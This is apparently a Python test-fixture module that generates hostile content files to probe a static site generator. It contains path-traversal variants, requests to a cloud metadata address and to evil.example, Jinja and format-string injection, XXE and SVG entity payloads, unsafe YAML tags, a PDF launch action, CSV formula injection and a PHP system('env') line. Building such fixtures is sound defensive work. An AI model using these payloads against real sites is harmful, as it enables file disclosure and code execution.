"""Hostile hubs whose trick is in words: paths, and what a template, a typesetter or a parser might take for its own."""

from __future__ import annotations

from collections.abc import Mapping

Texts = Mapping[str, str]


def with_picture(path: str) -> Texts:
    """A page with a picture of this path, in all ways of writing one."""
    return {"content/about.md": f"# About\n\n![a]({path})\n\n[b]({path})\n\n![c](<{path}>)\n\n[d]: {path}\n\n![e][d]\n"}


def with_logo(path: str) -> Texts:
    """A hub whose own pictures lie at this path."""
    return {
        "content/hub.yml": f"name: A\nplugins: {{plugins}}\nlogo: '{path}'\nphoto: '{path}'\nphoto_description: Us\n"
    }


_WAYS_OUT = {
    "up": "../../outside/secret.jpg",
    "up within content": "pictures/../../../outside/secret.jpg",
    "an absolute path": "{outside}/secret.jpg",
    "an address of a file": "file://{outside}/secret.jpg",
    "another computer": "//evil.example/share/x.jpg",
    "UNC": r"\\evil.example\share\x.jpg",
    "backslashes": r"..\..\outside\secret.jpg",
    "percent signs": "%2e%2e/%2e%2e/outside/secret.jpg",
    "percent signs twice": "%252e%252e%252f%252e%252e%252foutside/secret.jpg",
    "too long UTF-8": "..%c0%af..%c0%afoutside/secret.jpg",
    "a null byte": "../../outside/secret.jpg%00.png",
    "a home": "~/secret.jpg",
    "the environment": "$HOME/${HUBSITE_SECRET}.jpg",
    "git": "../.git/config",
    "a web address": "http://169.254.169.254/latest/meta-data/x.jpg",
}
_IDS = {f"content/groups/{name}.yml": "name: X\n" for name in ("..x", "a..", "%2e%2e%2fx", "con", "-rf")}
PATHS: Mapping[str, Texts] = {
    **{f"a picture by {name}": with_picture(path) for name, path in _WAYS_OUT.items()},
    **{f"a logo by {name}": with_logo(path) for name, path in _WAYS_OUT.items()},
    "references that go up": {
        "content/groups/choir.yml": "name: Choir\nsummary: We sing.\nmeets_at: ../../../outside/secret\n",
        "content/meetings/one.yml": "name: AGM\nwhen: 5 June 2027 at 7pm\nheld_at: spaces/../../../../outside/secret\n",
    },
    "ids that go up": _IDS,
    "a feed of others": {
        "content/feed.ics": "BEGIN:VCALENDAR\nATTACH:file://{outside}/secret.txt\nEND:VCALENDAR\n",
        "content/list.csv": "name,file\n=cmd|' /C calc'!A0,{outside}/secret.txt\n",
    },
}

JINJA = (
    "{{ config }} {{ environ }} {{ self.__init__.__globals__ }} {% include '/etc/passwd' %} "
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {% import 'os' as os %} "
    "{{ cycler.__init__.__globals__.os.environ }}"
)
TYPST = (
    '#read("{outside}/secret.txt") #include "{outside}/secret.txt" #eval("read(\\"/etc/passwd\\")") '
    "#sys.inputs $x$ @x <x>"
)
SNIPPETS = (
    '--8<-- "{outside}/secret.md"\n\n--8<-- "../../outside/secret.md"\n\n--8<--\n/proc/self/environ\n--8<--\n\n'
    "{! {outside}/secret.md !}\n\n.. include:: {outside}/secret.md\n\n<!--#include file='{outside}/secret.md' -->\n\n"
    '{% include-markdown "../../outside/secret.md" %}\n\n```{literalinclude} {outside}/secret.md\n```\n'
)
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{outside}/secret.txt"><!ENTITY % y SYSTEM "http://evil.example/y">%y;]>'
DRAWING = (
    '<!DOCTYPE svg SYSTEM "file://{outside}/secret.txt"><svg xmlns="http://www.w3.org/2000/svg"><circle r="9"/>'
    '<use href="file://{outside}/secret.txt#x"/><style>@import "http://evil.example/y.css";</style></svg>'
)
SVG = f'{DOCTYPE}<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image href="file://{{outside}}/secret.jpg"/></svg>'


def everywhere(words: str, *, in_prose: str = "") -> Texts:
    """A hub that says these words in names and summaries, and in prose where they are no blocks that do not exist."""
    quoted, prose = f"'{words.replace(chr(39), chr(39) * 2)}'", (in_prose or words).replace("'", "''")
    said = f"name: {quoted}\nsummary: {quoted}\n"
    return {
        "content/hub.yml": f"{said}plugins: {{plugins}}\n",
        "content/about.md": f"---\ntitle: {quoted}\nsummary: {quoted}\n---\n# {prose}\n\n{prose}\n",
        "content/groups/choir.yml": f"{said}description: '{prose}'\n",
        "content/spaces/hall.yml": f"name: {quoted}\naddress: {quoted}\ndescription: '{prose}'\n",
        "content/meetings/agm.yml": f"{said}when: every Thursday at 7pm\nwhat_happens: '{prose}'\nheld_at: hall\n",
        "content/news/one.md": f"---\nname: {quoted}\nsummary: {quoted}\ndate: 1 November 2026\n---\n{prose}\n",
    }


_JINJA_WITHOUT_BLOCKS = "{% include '/etc/passwd' %} {% import 'os' as os %} {# x #} { { config } }"
IN_CONTENT: Mapping[str, Texts] = {
    "Jinja in names": everywhere(JINJA, in_prose=_JINJA_WITHOUT_BLOCKS),
    "Jinja everywhere": everywhere(JINJA),
    "typst everywhere": everywhere(TYPST),
    "shells everywhere": everywhere("${GITHUB_TOKEN} $HUBSITE_SECRET %GITHUB_TOKEN% {GITHUB_TOKEN} `env` $(env) ; env"),
    "formats of Python": everywhere(
        "{0.__class__.__init__.__globals__} %(GITHUB_TOKEN)s {self._root} {today.__class__}"
    ),
    "blocks with paths": everywhere(
        "Hello", in_prose="{{ next-meetings group=../../outside/secret }} {{ include {outside}/secret.md }}"
    ),
    "snippets": {
        "content/about.md": f"# About\n\n{SNIPPETS}",
        "content/news/one.md": f"---\nname: N\nsummary: S\ndate: 1 November 2026\n---\n{SNIPPETS}",
    },
    "templates in front matter": {
        "content/about.md": "---\ntemplate: ../../../../outside/secret.md\nhide: [navigation]\n"
        "layout: /etc/passwd\n---\n# About\n"
    },
    "tags in front matter": {
        "content/about.md": "---\ntitle: !!python/object/apply:os.getenv [GITHUB_TOKEN]\nsummary: !ENV HOME\n---\n# A\n"
    },
    "front matter of others": {
        "content/about.md": '---json\n{"title": "x"}\n---\n+++\ntitle = \'x\'\n+++\n---js\nprocess.env\n---\n# A\n'
    },
    "front matter without an end": {"content/about.md": "---\ntitle: x\n--- \n...\n---\n{{ config }}\n"},
    "an include in a record": {
        "content/spaces/hall.yml": "name: !include {outside}/secret.txt\naddress: !!binary /etc/passwd\n"
    },
    "merging with others": {
        "content/spaces/hall.yml": "<<: !include ../../../outside/secret.yml\nname: Hall\naddress: !ENV HOME\n"
    },
    "a picture with entities": with_picture("y.svg") | {"content/x.svg": SVG, "content/y.svg": DRAWING},
    "a picture that is another": with_picture("x.png")
    | {
        "content/x.png": SVG,
        "content/y.jpg": "push graphic-context\nimage Over 0,0 0,0 'file://{outside}/secret.txt'\n",
    },
    "a picture of PostScript": with_picture("x.jpg")
    | {"content/x.jpg": "%!PS\n({outside}/secret.txt) (r) file 99 string readstring pop =\n"},
    "a PDF that runs": {
        "content/x.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F({outside}/secret.txt)>>>>endobj\n"
        "trailer<</Root 1 0 R>>\n",
        "content/about.md": "# A\n\n[x](x.pdf)\n",
    },
    "a page of HTML": {
        "content/about.md": "# A\n\n<object data='file://{outside}/secret.txt'></object>"
        "<iframe src='/etc/passwd'></iframe><link rel=import href='{outside}/secret.md'>\n"
    },
    "a page of other programs": {
        "content/x.html": SVG,
        "content/x.ipynb": "{}",
        "content/x.rst": ".. include:: /etc/passwd\n",
        "content/x.php": "<?php system('env');",
    },
    "translations": {
        "content/hub.yml": "name: A\nlanguages: [en, ../../outside]\nplugins: {plugins}\n",
        "content/about.en.md": "# A\n",
    },
}
